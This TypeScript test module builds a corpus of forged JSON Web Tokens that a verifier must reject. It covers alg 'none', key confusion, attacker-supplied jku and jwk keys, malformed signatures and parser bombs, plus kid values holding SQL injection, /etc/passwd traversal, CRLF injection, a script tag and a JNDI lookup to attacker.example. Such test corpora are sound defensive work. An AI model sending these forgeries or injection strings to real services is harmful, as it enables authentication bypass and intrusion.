import { generateKeyPairSync, sign as signBytes } from 'node:crypto'
import { deflateRawSync } from 'node:zlib'
import {
  base64url,
  compact,
  ed25519,
  es256,
  goodClaims,
  hmac,
  now,
  privateKey,
  ps256,
  rs256,
  signedBy,
} from './_forge.ts'
import { url } from './_receiver.ts'
import { keyText } from './_vectors.ts'

/** What an attack may know. */
export interface AttackContext {
  /** A server of the attacker's, which serves the attacker's key set and counts who asks. */
  readonly attacker: string
}

/** One forgery. */
export interface Attack {
  readonly group: string
  readonly name: string
  readonly forge: (context: AttackContext) => string
  /** A policy under which it is no attack. */
  readonly notUnder?: 'strict' | 'lenient'
}

const attackerEc = generateKeyPairSync('ec', { namedCurve: 'P-256' })
const attackerRsa = generateKeyPairSync('rsa', { modulusLength: 2048 })

/** The attacker's key set, for whoever fetches it. */
export const attackerKeys = {
  keys: [
    { ...attackerEc.publicKey.export({ format: 'jwk' }), kid: 'p256', alg: 'ES256' },
    { ...attackerRsa.publicKey.export({ format: 'jwk' }), kid: 'rsa', alg: 'RS256' },
  ],
}

const es = signedBy('p256')
const iat = now.getTime() / 1000

function group(
  name: string,
  attacks: readonly (readonly [string, Attack['forge'], Pick<Attack, 'notUnder'>?])[],
): Attack[] {
  return attacks.map(([title, forge, more]) => ({ group: name, name: title, forge, ...more }))
}

/** The partner's token with its third part changed. */
function withSignature(
  name: 'p256' | 'rsa' | 'ed25519' | 'secret',
  change: (signature: Buffer, input: string) => Uint8Array | string,
): string {
  const token = signedBy(name).token()
  const dot = token.lastIndexOf('.')
  const input = token.slice(0, dot)
  const changed = change(Buffer.from(token.slice(dot + 1), 'base64url'), input)
  return `${input}.${typeof changed === 'string' ? changed : base64url(changed)}`
}

const unsigned = group(
  'no signature',
  [
    'none',
    'None',
    'NONE',
    'nOnE',
    'none ',
    ' none',
    'none\0',
    '',
    null,
    0,
    true,
    ['none'],
    ['ES256'],
    { alg: 'ES256' },
    undefined,
  ].flatMap(
    alg =>
      [
        [
          `alg ${JSON.stringify(alg)}, nothing behind the last dot`,
          () => compact({ ...es.header, alg }, goodClaims(), () => ''),
        ],
        [
          `alg ${JSON.stringify(alg)} and the partner’s signature`,
          () => compact({ ...es.header, alg }, goodClaims(), es.sign),
        ],
        [
          `alg ${JSON.stringify(alg)}, no kid`,
          () => compact({ alg, typ: 'JWT' }, { ...goodClaims(), iss: 'https://partner.example' }, () => ''),
        ],
      ] as const,
  ),
)

/** What everybody knows of the partner's keys, as bytes for an HMAC. */
const publicTexts: readonly (readonly [string, () => string | Uint8Array])[] = [
  ['its PEM', () => keyText('rsa', 'pem')],
  ['its PEM with an end of line', () => `${keyText('rsa', 'pem').trim()}\n`],
  ['its PEM without one', () => keyText('rsa', 'pem').trim()],
  ['its PEM with CRLF', () => keyText('rsa', 'pem').replaceAll('\n', '\r\n')],
  ['its DER', () => Buffer.from(keyText('rsa', 'pem').replace(/-----.*-----|\s/g, ''), 'base64')],
  ['its base64', () => keyText('rsa', 'pem').replace(/-----.*-----|\s/g, '')],
  ['its JWK', () => JSON.stringify(privateKey('rsa').export({ format: 'jwk' }), ['kty', 'n', 'e'])],
  ['its modulus', () => Buffer.from(String(privateKey('rsa').export({ format: 'jwk' }).n), 'base64url')],
  ['its certificate', () => keyText('certificate', 'pem')],
  ['nothing', () => ''],
]
const confusion = group('another kind of key', [
  ...publicTexts.flatMap(([what, secret]) =>
    ['256', '384', '512'].flatMap(bits => [
      [
        `HS${bits} with ${what} as secret`,
        () => compact({ alg: `HS${bits}`, kid: 'rsa' }, goodClaims(), hmac(secret(), `sha${bits}`)),
      ] as const,
      [
        `HS${bits} with ${what} as secret, found by iss`,
        () =>
          compact(
            { alg: `HS${bits}` },
            { ...goodClaims(), iss: 'https://partner.example' },
            hmac(secret(), `sha${bits}`),
          ),
      ] as const,
    ]),
  ),
  [
    'RS256 of the attacker for a partner that has a secret',
    () => compact({ alg: 'RS256', kid: 'secret' }, goodClaims(), rs256(attackerRsa.privateKey)),
  ],
  [
    'ES256 with the kid of an RSA key',
    () => compact({ alg: 'ES256', kid: 'rsa' }, goodClaims(), es256(attackerEc.privateKey)),
  ],
  ['ES384 for a key of P-256', () => compact({ ...es.header, alg: 'ES384' }, goodClaims(), es.sign)],
  ['ES256K', () => compact({ ...es.header, alg: 'ES256K' }, goodClaims(), es.sign)],
  ['an algorithm in lower case', () => compact({ ...es.header, alg: 'es256' }, goodClaims(), es.sign)],
  [
    'the kid of the partner, the secret of another',
    () => compact({ alg: 'HS256', kid: 'p256' }, goodClaims(), signedBy('secret').sign),
  ],
])

const embedded = group(
  'a key that the token brings',
  (
    [
      ['jwk', () => ({ jwk: attackerKeys.keys[0] })],
      ['jku', ({ attacker }) => ({ jku: `${attacker}/keys` })],
      [
        'jku under an address of the service',
        ({ attacker }) => ({ jku: `https://sso.example@${attacker.replace('http://', '')}/keys` }),
      ],
      ['x5u', ({ attacker }) => ({ x5u: `${attacker}/certificate` })],
      ['x5c', () => ({ x5c: [keyText('otherCertificate', 'pem').replace(/-----.*-----|\s/g, '')] })],
      [
        'jwk, jku, x5u and x5c',
        ({ attacker }) => ({ jwk: attackerKeys.keys[0], jku: attacker, x5u: attacker, x5c: ['AAAA'] }),
      ],
      ['a kid that is an address', ({ attacker }) => ({ kid: `${attacker}/keys` })],
      ['an iss that is an address', ({ attacker }) => ({ iss: attacker })],
    ] as const satisfies readonly (readonly [string, (context: AttackContext) => object])[]
  ).flatMap(([what, header]) =>
    [{ kid: 'p256' }, {}].map(
      kid =>
        [
          `${what}, ${'kid' in kid ? 'with' : 'without'} the partner’s kid`,
          (context: AttackContext) =>
            compact(
              { alg: 'ES256', ...kid, ...header(context) },
              { ...goodClaims(), iss: 'https://partner.example' },
              es256(attackerEc.privateKey),
            ),
        ] as const,
    ),
  ),
)

const extensions = group('extensions', [
  ...[['exp'], ['b64'], ['urn:example:unknown'], ['alg'], [], null, 'exp', {}, '__proto__'].map(
    crit =>
      [
        `crit ${JSON.stringify(crit)}`,
        () => signedBy('p256', { crit, exp: iat + 60, b64: false }).token(),
      ] as const,
  ),
  [
    'b64 false: claims that are not encoded',
    () => {
      const header = base64url(JSON.stringify({ ...es.header, b64: false, crit: ['b64'] }))
      const claims = JSON.stringify({ ...goodClaims(), aud: 'x' })
      return `${header}.${claims}.${base64url(es.sign(`${header}.${claims}`))}`
    },
  ],
  [
    'zip: compressed claims',
    () => {
      const header = base64url(JSON.stringify({ ...es.header, zip: 'DEF' }))
      const input = `${header}.${base64url(deflateRawSync(JSON.stringify(goodClaims())))}`
      return `${input}.${base64url(es.sign(input))}`
    },
  ],
])

const good = () => JSON.stringify(goodClaims()).slice(1, -1)
const headerText = '"alg":"ES256","typ":"JWT","kid":"p256"'
const duplicates = group('members that are there twice, signed by the partner', [
  ['alg, none first', () => compact(`{"alg":"none",${headerText}}`, goodClaims(), es.sign)],
  ['alg, none last', () => compact(`{${headerText},"alg":"none"}`, goodClaims(), es.sign)],
  ['alg, one of them escaped', () => compact(`{"\\u0061lg":"HS256",${headerText}}`, goodClaims(), es.sign)],
  ['kid', () => compact(`{"kid":"rsa",${headerText}}`, goodClaims(), es.sign)],
  ['aud, the other’s first', () => compact(es.header, `{"aud":"https://other.example",${good()}}`, es.sign)],
  ['aud, ours first', () => compact(es.header, `{${good()},"aud":"https://other.example"}`, es.sign)],
  ['jti', () => compact(es.header, `{"jti":"first",${good()}}`, es.sign)],
  ['exp', () => compact(es.header, `{"exp":1,${good()}}`, es.sign)],
  ['employeeId', () => compact(es.header, `{"employeeId":"other",${good()}}`, es.sign)],
  [
    'a member of contact',
    () => compact(es.header, `{${good().replace('"contact":{', '"contact":{"id":"other",')}}`, es.sign),
  ],
  ['__proto__', () => compact(es.header, `{"__proto__":{"aud":1},"__proto__":{},${good()}}`, es.sign)],
  [
    'aud only in __proto__',
    () =>
      compact(
        es.header,
        `{"__proto__":{"aud":"${url}"},${good().replace(/"aud":"[^"]*"/, '"x":1')}}`,
        es.sign,
      ),
    { notUnder: 'lenient' },
  ],
  [
    'alg only in __proto__',
    () => compact('{"__proto__":{"alg":"ES256"},"kid":"p256"}', goodClaims(), es.sign),
  ],
])

const [h = '', c = '', s = ''] = es.token().split('.')
const bits = (part: string) => {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'
  const last = alphabet.indexOf(part.slice(-1))
  return part.slice(0, -1) + alphabet[last ^ 1]
}
/** Claims whose length leaves bits over. */
const uneven = () => {
  for (let filling = ''; ; filling += 'x') {
    const text = JSON.stringify({ ...goodClaims(), filling })
    if (base64url(text).length % 4 !== 0) return base64url(text)
  }
}
const encodings = group('another way to write it', [
  ['padding behind the header', () => `${h}=.${c}.${s}`],
  ['padding behind the claims', () => `${h}.${c}=.${s}`],
  ['padding behind the signature', () => `${h}.${c}.${s}==`],
  ['leftover bits in the signature', () => `${h}.${c}.${bits(s)}`],
  [
    'leftover bits in the claims, signed so',
    () => {
      const input = `${h}.${bits(uneven())}`
      return `${input}.${base64url(es.sign(input))}`
    },
  ],
  ['white space in the header', () => `${h.slice(0, 4)} ${h.slice(4)}.${c}.${s}`],
  ['an end of line in the claims', () => `${h}.${c.slice(0, 8)}\n${c.slice(8)}.${s}`],
  ['a tab in the signature', () => `${h}.${c}.\t${s}`],
  ['the other alphabet', () => `${h}.${c}.+/${s.slice(2)}`],
  ['a NUL', () => `${h}.${c}.${s}\0x`],
  ['full-width letters', () => `${h}.${c}.\uff21${s.slice(1)}`],
  [
    'a byte order mark before the claims, signed so',
    () => compact(es.header, `\ufeff${JSON.stringify(goodClaims())}`, es.sign),
  ],
  [
    'claims that are not UTF-8, signed so',
    () => {
      const input = `${h}.${base64url(Buffer.concat([Buffer.from(`{${good()},"x":"`), Buffer.of(0xc3, 0x28), Buffer.from('"}')]))}`
      return `${input}.${base64url(es.sign(input))}`
    },
  ],
  ['a comment in the claims, signed so', () => compact(es.header, `{/**/${good()}}`, es.sign)],
  ['something behind the claims, signed so', () => compact(es.header, `{${good()}}{}`, es.sign)],
])

const deep = (open: string, close: string, times: number) => open.repeat(times) + close.repeat(times)
const bombs = group('bombs', [
  ['a token of 1 MB', () => compact(es.header, { ...goodClaims(), x: 'a'.repeat(1_000_000) }, es.sign)],
  [
    'a token just above the limit',
    () => compact(es.header, { ...goodClaims(), x: 'a'.repeat(49_200) }, es.sign),
  ],
  ['a signature of 60 KB', () => `${h}.${c}.${'A'.repeat(60_000)}`],
  ['a header of 1 MB', () => compact({ ...es.header, x: 'a'.repeat(1_000_000) }, goodClaims(), es.sign)],
  ['a kid of 1 MB', () => compact({ ...es.header, kid: 'a'.repeat(1_000_000) }, goodClaims(), es.sign)],
  [
    'a kid of 40 KB',
    () => compact({ ...es.header, kid: 'a'.repeat(40_000) }, goodClaims(), es256(attackerEc.privateKey)),
  ],
  [
    '20,000 lists in the header',
    () => compact(`{${headerText},"x":${deep('[', ']', 20_000)}}`, goodClaims(), es.sign),
  ],
  [
    '17 objects in the header',
    () => compact(`{${headerText},"x":${deep('{"a":', '}', 17).replace('}', '1}')}}`, goodClaims(), es.sign),
  ],
  [
    '20,000 lists in the claims',
    () => compact(es.header, `{${good()},"x":${deep('[', ']', 20_000)}}`, es.sign),
  ],
  [
    '20,000 lists that are never closed',
    () => compact(es.header, `{${good()},"x":${'['.repeat(20_000)}`, es.sign),
  ],
  [
    '5,000 objects in the claims',
    () => compact(es.header, `{${good()},"x":${deep('{"a":', '}', 5000).replace('}', '1}')}}`, es.sign),
  ],
  [
    'a text of 4,097 characters',
    () => compact(es.header, { ...goodClaims(), employeeId: 'a'.repeat(4097) }, es.sign),
  ],
  ['8,000 dots', () => '.'.repeat(8000)],
  ['dots and nothing else', () => '..'],
])

const kids = group(
  'what a kid may hold',
  [
    "' OR '1'='1",
    '"; DROP TABLE partner; --',
    '../../../../etc/passwd',
    '/dev/null',
    '..\\..\\windows\\win.ini',
    'file:///etc/passwd',
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    'a\0b',
    'a\r\nSet-Cookie: a=b',
    '<script>alert(1)</script>',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what an attacker sends
    '${jndi:ldap://attacker.example/a}',
    '%s%s%n',
    '\ud800',
    '',
    null,
    0,
    true,
    ['p256'],
    { toString: 'p256' },
    { $ne: null },
  ].flatMap(
    kid =>
      [
        [
          `${JSON.stringify(kid)}, signed by the attacker`,
          () => compact({ alg: 'ES256', kid }, goodClaims(), es256(attackerEc.privateKey)),
        ],
        [
          `${JSON.stringify(kid)}, as HMAC with an empty secret`,
          () => compact({ alg: 'HS256', kid }, goodClaims(), hmac('')),
        ],
        [
          `${JSON.stringify(kid)} as x5t#S256`,
          () => compact({ alg: 'ES256', 'x5t#S256': kid }, goodClaims(), es256(attackerEc.privateKey)),
        ],
      ] as const,
  ),
)

const audiences = group('an audience that is not ours, signed by the partner', [
  ...[
    `${url}/`,
    `${url}x`,
    `x${url}`,
    url.slice(0, -1),
    url.toUpperCase(),
    url.replace('sso.example', 'SSO.example'),
    url.replace('https', 'http'),
    url.replace('sso.example', 'sso.example:443'),
    url.replace('sso.example', 'user@sso.example'),
    url.replace('sso.example', 'sso.example.attacker.example'),
    url.replace('sso.example', 'sso.example.'),
    url.replace('/partner', '//partner'),
    url.replace('/partner', '/./partner'),
    url.replace('partner', '%70artner'),
    `${url}?`,
    `${url}#`,
    ` ${url}`,
    `${url}\0`,
    `${url},https://other.example`,
    'https://sso.example',
    '*',
    '',
    null,
    true,
    0,
    [],
    [[url]],
    ['https://other.example'],
    [{ 0: url }],
    { 0: url, length: 1 },
    { toString: url },
  ].map(aud => [JSON.stringify(aud).slice(0, 80), () => es.token({ ...goodClaims(), aud })] as const),
])

const times = group('times that are wrong, signed by the partner', [
  ...(
    [
      ['iat in an hour', { iat: iat + 3600, exp: iat + 3660 }],
      ['iat in 61 s', { iat: iat + 61, exp: iat + 100 }],
      ['nbf in an hour', { nbf: iat + 3600 }],
      ['exp an hour ago', { iat: iat - 3660, exp: iat - 3600 }],
      ['exp negative', { exp: -1 }],
      ['exp in milliseconds', { exp: (iat + 60) * 1000 }],
      ['exp as text', { exp: String(iat + 60) }],
      ['exp null', { exp: null }],
      ['exp true', { exp: true }],
      ['exp a list', { exp: [iat + 60] }],
      ['exp an object', { exp: { valueOf: iat + 60 } }],
      ['iat as text', { iat: String(iat) }],
      ['iat negative', { iat: -iat }],
      ['nbf as text', { nbf: '0' }],
    ] as const
  ).map(([name, claims]) => [name, () => es.token({ ...goodClaims(), ...claims })] as const),
  ...(['1e400', '-1e400', '1e308', '-0.5'] as const).map(
    exp =>
      [
        `exp ${exp}`,
        () => compact(es.header, `{${good().replace(/"exp":\d+/, `"exp":${exp}`)}}`, es.sign),
      ] as const,
  ),
  ...(['NaN', 'Infinity', '0x7fffffff', '01', '+1', '1_000'] as const).map(
    exp =>
      [
        `exp ${exp}, which is not JSON`,
        () => compact(es.header, `{${good().replace(/"exp":\d+/, `"exp":${exp}`)}}`, es.sign),
      ] as const,
  ),
  ['exp 301 s after iat', () => es.token({ ...goodClaims(), exp: iat + 301 }), { notUnder: 'lenient' }],
  ['exp in the year 9999', () => es.token({ ...goodClaims(), exp: 253402300799 }), { notUnder: 'lenient' }],
  ['no exp', () => es.token({ ...goodClaims(), exp: undefined }), { notUnder: 'lenient' }],
  ['no iat', () => es.token({ ...goodClaims(), iat: undefined }), { notUnder: 'lenient' }],
  ['no jti', () => es.token({ ...goodClaims(), jti: undefined }), { notUnder: 'lenient' }],
  ['jti that is a list', () => es.token({ ...goodClaims(), jti: ['x'] })],
])

const order = 0xffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551n
const number = (value: bigint) => Buffer.from(value.toString(16).padStart(64, '0'), 'hex')
const l = 2n ** 252n + 27742317777372353535851937790883648493n
const signatures = group('signatures', [
  ...(
    [
      ['r and s 0', 0n, 0n],
      ['r 0, s 1', 0n, 1n],
      ['r 1, s 0', 1n, 0n],
      ['r and s the order', order, order],
      ['r the order, s 1', order, 1n],
      ['r and s 1', 1n, 1n],
      ['r and s of 256 ones', 2n ** 256n - 1n, 2n ** 256n - 1n],
    ] as const
  ).map(
    ([name, r, sNumber]) =>
      [
        `ECDSA, ${name}`,
        () => withSignature('p256', () => Buffer.concat([number(r), number(sNumber)])),
      ] as const,
  ),
  [
    'ECDSA in DER',
    () => withSignature('p256', (_own, input) => signBytes('sha256', Buffer.from(input), privateKey('p256'))),
  ],
  [
    'ECDSA, s plus the order, which does not fit',
    () =>
      withSignature('p256', own =>
        Buffer.concat([
          own.subarray(0, 32),
          number((BigInt(`0x${own.subarray(32).toString('hex')}`) + order) & (2n ** 256n - 1n)),
        ]),
      ),
  ],
  [
    'ECDSA with zeros before r and s',
    () =>
      withSignature('p256', own =>
        Buffer.concat([Buffer.of(0), own.subarray(0, 32), Buffer.of(0), own.subarray(32)]),
      ),
  ],
  ['ECDSA of other claims', () => withSignature('p256', () => es.sign('other'))],
  ['HMAC cut to 16 bytes', () => withSignature('secret', own => own.subarray(0, 16))],
  ['HMAC cut to 31 bytes', () => withSignature('secret', own => own.subarray(0, 31))],
  ['HMAC with one byte more', () => withSignature('secret', own => Buffer.concat([own, Buffer.of(0)]))],
  ['HMAC of nothing', () => withSignature('secret', () => '')],
  [
    'HMAC with another hash',
    () =>
      withSignature('secret', (_own, input) =>
        hmac(Buffer.from(keyText('secret', 'secret'), 'base64url'), 'sha512')(input).subarray(0, 32),
      ),
  ],
  ...[0, 20, 31, 33, 222].map(
    salt =>
      [
        `PSS with a salt of ${salt} bytes`,
        () => compact({ alg: 'PS256', kid: 'rsa' }, goodClaims(), ps256(privateKey('rsa'), salt)),
      ] as const,
  ),
  [
    'PSS under RS256',
    () => compact({ alg: 'RS256', kid: 'rsa' }, goodClaims(), ps256(privateKey('rsa'), 32)),
  ],
  ['PKCS#1 under PS256', () => compact({ alg: 'PS256', kid: 'rsa' }, goodClaims(), rs256(privateKey('rsa')))],
  [
    'RSA, SHA-256 under RS512',
    () => compact({ alg: 'RS512', kid: 'rsa' }, goodClaims(), rs256(privateKey('rsa'))),
  ],
  ...([0n, 1n] as const).map(
    value =>
      [
        `RSA, the number ${value}`,
        () =>
          withSignature('rsa', own => Buffer.from(value.toString(16).padStart(own.length * 2, '0'), 'hex')),
      ] as const,
  ),
  ['RSA with a zero before it', () => withSignature('rsa', own => Buffer.concat([Buffer.of(0), own]))],
  ['RSA, the same number plus the modulus', () => withSignature('rsa', own => plusModulus(own))],
  [
    'Ed25519, R of small order and S 0',
    () => withSignature('ed25519', () => Buffer.concat([Buffer.of(1), Buffer.alloc(63)])),
  ],
  ['Ed25519, all zeros', () => withSignature('ed25519', () => Buffer.alloc(64))],
  [
    'Ed25519, S plus the order of the group',
    () => withSignature('ed25519', own => Buffer.concat([own.subarray(0, 32), plus(own.subarray(32), l)])),
  ],
  [
    'Ed25519 of the attacker',
    () =>
      compact(
        { alg: 'EdDSA', kid: 'ed25519' },
        goodClaims(),
        ed25519(generateKeyPairSync('ed25519').privateKey),
      ),
  ],
])

/** May be longer than the key: either is refused. */
function plusModulus(signature: Buffer): Buffer {
  const n = BigInt(
    `0x${Buffer.from(String(privateKey('rsa').export({ format: 'jwk' }).n), 'base64url').toString('hex')}`,
  )
  const sum = (BigInt(`0x${signature.toString('hex')}`) + n).toString(16)
  return Buffer.from(sum.padStart(sum.length + (sum.length % 2), '0'), 'hex')
}

/** Little-endian. */
function plus(bytes: Buffer, value: bigint): Buffer {
  const sum = BigInt(`0x${Buffer.from(bytes).reverse().toString('hex')}`) + value
  return Buffer.from(sum.toString(16).padStart(64, '0'), 'hex').reverse()
}

const forms = group('what is no compact JWS', [
  [
    'a JWE',
    () => [base64url('{"alg":"dir","enc":"A256GCM","kid":"p256"}'), '', 'AAAA', 'AAAA', 'AAAA'].join('.'),
  ],
  ['detached claims', () => `${h}..${s}`],
  ['only header and claims', () => `${h}.${c}`],
  ['a fourth part', () => `${h}.${c}.${s}.${s}`],
  ['the flattened JSON serialization', () => JSON.stringify({ protected: h, payload: c, signature: s })],
  [
    'the general JSON serialization',
    () => JSON.stringify({ payload: c, signatures: [{ protected: h, signature: s }] }),
  ],
  ['a token in a token', () => signedBy('p256', { cty: 'JWT' }).token(es.token())],
  [
    'a token in a token, as JSON text',
    () => signedBy('p256', { cty: 'JWT' }).token(JSON.stringify(es.token())),
  ],
  ['a list of claims', () => es.token([goodClaims()])],
  ['claims that are null', () => es.token('null')],
  ['a header that is a list', () => compact([es.header], goodClaims(), es.sign)],
  ['a header that is null', () => compact('null', goodClaims(), es.sign)],
  ['Bearer before it', () => `Bearer ${es.token()}`],
  ['two tokens', () => `${es.token()} ${es.token()}`],
])

/** Each must be refused. */
export const attacks: readonly Attack[] = [
  ...unsigned,
  ...confusion,
  ...embedded,
  ...extensions,
  ...duplicates,
  ...encodings,
  ...bombs,
  ...kids,
  ...audiences,
  ...times,
  ...signatures,
  ...forms,
]
